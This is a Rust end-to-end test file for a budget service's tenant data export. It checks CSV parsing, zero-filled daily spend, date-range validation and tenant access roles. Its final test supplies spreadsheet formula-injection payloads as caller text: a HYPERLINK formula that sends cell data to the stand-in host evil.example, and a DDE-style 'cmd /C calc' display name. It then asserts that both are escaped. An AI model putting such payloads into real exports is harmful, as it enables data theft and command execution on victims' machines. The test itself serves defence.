//! ExportTenantData: CSV that a real CSV parser reads back, zero-filled daily spend, date
//! range rules and the role table.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use budget_e2e::{Stack, config, field_violations};
use budget_proto::v1 as pb;
use budget_service::domain::AlertKind;
use budget_service::domain::TenantId;
use budget_service::domain::auth::Role;
use budget_service::store::NewAlert;
use chrono::{Days, NaiveDate, TimeZone, Utc};
use tonic::Code;

const USD: i64 = 1_000_000;

fn request(
    tenant: &str,
    kind: pb::ExportKind,
    start: &str,
    end: &str,
) -> pb::ExportTenantDataRequest {
    pb::ExportTenantDataRequest {
        tenant_id: tenant.into(),
        kind: kind.into(),
        start_date: start.into(),
        end_date: end.into(),
    }
}

/// Parses CSV with the `csv` crate: the header and the records.
fn parse(bytes: &[u8]) -> (Vec<String>, Vec<Vec<String>>) {
    let mut reader = csv::ReaderBuilder::new().from_reader(bytes);
    let header = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    let rows = reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    (header, rows)
}

fn date(raw: &str) -> NaiveDate {
    NaiveDate::parse_from_str(raw, "%Y-%m-%d").unwrap()
}

#[tokio::test]
async fn alerts_round_trip_through_a_csv_parser() {
    let stack = Stack::start().await;
    stack.create_tenant("acme", 500).await;
    let id = TenantId::parse("acme").unwrap();
    let message = "Spend \"hit\" 80%, of $500\r\nsecond line";
    let at = Utc.with_ymd_and_hms(2026, 3, 14, 15, 4, 5).unwrap();
    for (i, when) in [at, at + chrono::Duration::days(40)]
        .into_iter()
        .enumerate()
    {
        stack
            .store
            .insert_alert(&NewAlert {
                tenant_id: id.clone(),
                kind: AlertKind::Threshold,
                spend_micros: 400 * USD + 500_000,
                max_budget_micros: 500 * USD,
                percent: 80.1,
                threshold_percent: 80,
                message: message.into(),
                dedupe_key: format!("acme:{i}"),
                created_at: Some(when),
            })
            .await
            .unwrap()
            .unwrap();
    }
    let answer = stack
        .client()
        .export_tenant_data(request(
            "acme",
            pb::ExportKind::Alerts,
            "2026-03-01",
            "2026-03-31",
        ))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(answer.filename, "acme-alerts-2026-03-01-2026-03-31.csv");
    let text = String::from_utf8(answer.csv.clone()).unwrap();
    assert!(text.starts_with(
        "alert_id,created_at,type,spend_usd,max_budget_usd,percent,threshold_percent,message\r\n"
    ));
    assert!(text.ends_with("\r\n"));
    let (header, rows) = parse(&answer.csv);
    assert_eq!(header.len(), 8);
    assert_eq!(rows.len(), 1, "only the alert inside the range: {rows:?}");
    let row = &rows[0];
    assert_eq!(row[1], "2026-03-14T15:04:05Z");
    assert_eq!(row[2], "threshold");
    assert_eq!(row[3], "400.50");
    assert_eq!(row[4], "500.00");
    assert_eq!(row[6], "80");
    assert_eq!(row[7], message, "commas, quotes and line breaks survive");
    stack.stop().await;
}

#[tokio::test]
async fn audit_events_flatten_old_and_new_settings_and_quote_actors() {
    let stack = Stack::start().await;
    let created = stack.create_tenant("acme", 500).await;
    let actor = "ops, \"night\" shift";
    let token = stack.token(actor, Role::PlatformAdmin, None).await;
    let mut client = stack.client_with(Some(&token));
    client
        .update_budget_config(pb::UpdateBudgetConfigRequest {
            tenant_id: "acme".into(),
            config: Some(config(750, 85, 120, "30d")),
            etag: created.config.unwrap().etag,
            update_mask: None,
        })
        .await
        .unwrap();
    let today = Utc::now().date_naive();
    let day = today.format("%Y-%m-%d").to_string();
    let answer = stack
        .client()
        .export_tenant_data(request("acme", pb::ExportKind::AuditEvents, &day, &day))
        .await
        .unwrap()
        .into_inner();
    let (header, rows) = parse(&answer.csv);
    assert_eq!(
        header,
        [
            "event_id",
            "created_at",
            "actor",
            "action",
            "old_max_budget_usd",
            "old_alert_threshold_percent",
            "old_grace_threshold_percent",
            "old_budget_duration",
            "new_max_budget_usd",
            "new_alert_threshold_percent",
            "new_grace_threshold_percent",
            "new_budget_duration",
            "detail",
        ]
    );
    let update = rows
        .iter()
        .find(|r| r[2] == actor)
        .unwrap_or_else(|| panic!("the update by {actor:?} in {rows:?}"));
    assert_eq!(
        &update[4..12],
        ["500.00", "80", "110", "30d", "750.00", "85", "120", "30d"]
    );
    assert!(
        update[1].ends_with('Z') && update[1].len() == 20,
        "{}",
        update[1]
    );
    stack.stop().await;
}

#[tokio::test]
async fn daily_spend_is_zero_filled_from_the_stored_days() {
    let stack = Stack::start().await;
    stack.create_tenant("acme", 500).await;
    let id = TenantId::parse("acme").unwrap();
    stack
        .store
        .upsert_daily_spend(
            &id,
            &[
                (date("2026-01-02"), 12_345_000),
                (date("2026-01-04"), 1_234_500_000),
            ],
        )
        .await
        .unwrap();
    let answer = stack
        .client()
        .export_tenant_data(request(
            "acme",
            pb::ExportKind::DailySpend,
            "2026-01-01",
            "2026-01-05",
        ))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(
        answer.filename,
        "acme-daily-spend-2026-01-01-2026-01-05.csv"
    );
    assert_eq!(
        String::from_utf8(answer.csv).unwrap(),
        "date,model,spend_usd\r\n2026-01-01,,0.00\r\n2026-01-02,,12.35\r\n2026-01-03,,0.00\r\n\
         2026-01-04,,1234.50\r\n2026-01-05,,0.00\r\n"
    );
    stack.stop().await;
}

#[tokio::test]
async fn date_ranges_are_checked_field_by_field() {
    let stack = Stack::start().await;
    stack.create_tenant("acme", 500).await;
    let mut client = stack.client();
    let cases: [(&str, &str, &[&str]); 5] = [
        ("2026-1-01", "2026-01-31", &["start_date"]),
        ("2026-01-01", "2026-02-30", &["end_date"]),
        ("yesterday", "today", &["start_date", "end_date"]),
        ("2026-02-01", "2026-01-31", &["end_date"]),
        ("2025-01-01", "2026-02-06", &["end_date"]),
    ];
    for (start, end, fields) in cases {
        let err = client
            .export_tenant_data(request("acme", pb::ExportKind::DailySpend, start, end))
            .await
            .unwrap_err();
        assert_eq!(err.code(), Code::InvalidArgument, "{start}..{end}");
        let got: Vec<_> = field_violations(&err).into_iter().map(|(f, _)| f).collect();
        assert_eq!(got, fields, "{start}..{end}");
    }
    // 400 days after the start is the longest range.
    let longest = client
        .export_tenant_data(request(
            "acme",
            pb::ExportKind::DailySpend,
            "2025-01-01",
            "2026-02-05",
        ))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(parse(&longest.csv).1.len(), 401);
    let err = client
        .export_tenant_data(request(
            "acme",
            pb::ExportKind::Unspecified,
            "2026-01-01",
            "2026-01-02",
        ))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::InvalidArgument);
    assert_eq!(field_violations(&err)[0].0, "kind");
    let err = client
        .export_tenant_data(request(
            "nobody",
            pb::ExportKind::Alerts,
            "2026-01-01",
            "2026-01-02",
        ))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::NotFound);
    stack.stop().await;
}

#[tokio::test]
async fn tenant_admins_export_only_their_own_tenant() {
    let stack = Stack::start().await;
    stack.create_tenant("acme", 500).await;
    stack.create_tenant("globex", 500).await;
    let token = stack
        .token("acme-admin", Role::TenantAdmin, Some("acme"))
        .await;
    let mut client = stack.client_with(Some(&token));
    let today = Utc::now().date_naive();
    let start = today
        .checked_sub_days(Days::new(29))
        .unwrap()
        .format("%Y-%m-%d")
        .to_string();
    let end = today.format("%Y-%m-%d").to_string();
    let own = client
        .export_tenant_data(request("acme", pb::ExportKind::DailySpend, &start, &end))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(parse(&own.csv).1.len(), 30);
    for tenant in ["globex", "nobody"] {
        let err = client
            .export_tenant_data(request(tenant, pb::ExportKind::Alerts, &start, &end))
            .await
            .unwrap_err();
        assert_eq!(err.code(), Code::PermissionDenied, "{tenant}");
    }
    let err = stack
        .client_with(None)
        .export_tenant_data(request("acme", pb::ExportKind::Alerts, &start, &end))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::Unauthenticated);
    stack.stop().await;
}

/// A cell a spreadsheet would run as a formula: starts with `=`, `+`, `-`, `@`, tab or CR
/// and is not a plain number.
fn runs_as_formula(cell: &str) -> bool {
    let plain_number = cell.strip_prefix('-').is_some_and(|rest| {
        !rest.is_empty() && rest.bytes().all(|b| b.is_ascii_digit() || b == b'.')
    });
    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !plain_number
}

#[tokio::test]
async fn text_from_callers_never_reaches_a_spreadsheet_as_a_formula() {
    let stack = Stack::start().await;
    let actor = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
    let token = stack.token(actor, Role::PlatformAdmin, None).await;
    let mut client = stack.client_with(Some(&token));
    let created = client
        .create_tenant(pb::CreateTenantRequest {
            tenant_id: "acme".into(),
            display_name: "@SUM(1+1)*cmd|' /C calc'!A0".into(),
            config: Some(config(500, 80, 110, "30d")),
        })
        .await
        .unwrap()
        .into_inner();
    client
        .update_budget_config(pb::UpdateBudgetConfigRequest {
            tenant_id: "acme".into(),
            config: Some(config(750, 85, 120, "30d")),
            etag: created.config.unwrap().etag,
            update_mask: None,
        })
        .await
        .unwrap();
    let day = Utc::now().date_naive().format("%Y-%m-%d").to_string();
    let answer = stack
        .client()
        .export_tenant_data(request("acme", pb::ExportKind::AuditEvents, &day, &day))
        .await
        .unwrap()
        .into_inner();
    let (_, rows) = parse(&answer.csv);
    let by_actor: Vec<_> = rows
        .iter()
        .filter(|r| r[2] == format!("'{actor}"))
        .collect();
    assert_eq!(by_actor.len(), 2, "the actor, shown as text: {rows:?}");
    for cell in rows.iter().flatten() {
        assert!(!runs_as_formula(cell), "{cell:?} in {rows:?}");
    }
    stack.stop().await;
}
